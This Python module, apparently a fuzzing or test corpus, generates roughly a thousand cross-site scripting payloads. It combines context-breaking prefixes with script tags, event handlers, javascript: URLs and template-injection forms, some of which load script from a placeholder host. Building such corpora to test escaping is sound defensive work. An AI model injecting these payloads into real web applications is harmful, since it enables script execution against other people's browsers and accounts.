"""A thousand pieces of markup that run a script where somebody forgets to escape."""

from __future__ import annotations

from itertools import product
from typing import Final

_BREAKS: Final = (
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "</title>",
    "</style>",
    "</script>",
    "]]>",
)
_TAGS: Final = (
    *("<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//x/{}>", "<svg/onload={}>"),
    *("<img src=x onerror={}>", "<body onload={}>", "<a href=javascript:{}>x</a>", "<math><mi {}>"),
    *("<iframe srcdoc='<p {}>'>", "<details open ontoggle={}>", "<base href=//x/{}>", "<!--{}"),
    *("<svg><animate onbegin={} attributeName=x>", "<object data=javascript:{}>", " onfocus={} x="),
    *("<meta http-equiv=refresh content=0;url={}>", "{{{{{}}}}}", "${{{}}}", "<%= {} %>", "{}//"),
    *("&lt;script&gt;{}", "\\u003cscript>{}", "<input autofocus onfocus={}>", "<style>@import'{}'"),
)
_CALLS: Final = ("alert(1)", "a`1`", "eval(x)", "top.x()")
MARKUP: Final = tuple(
    f"{start}{tag.format(call)}" for start, tag, call in product(_BREAKS, _TAGS, _CALLS)
)
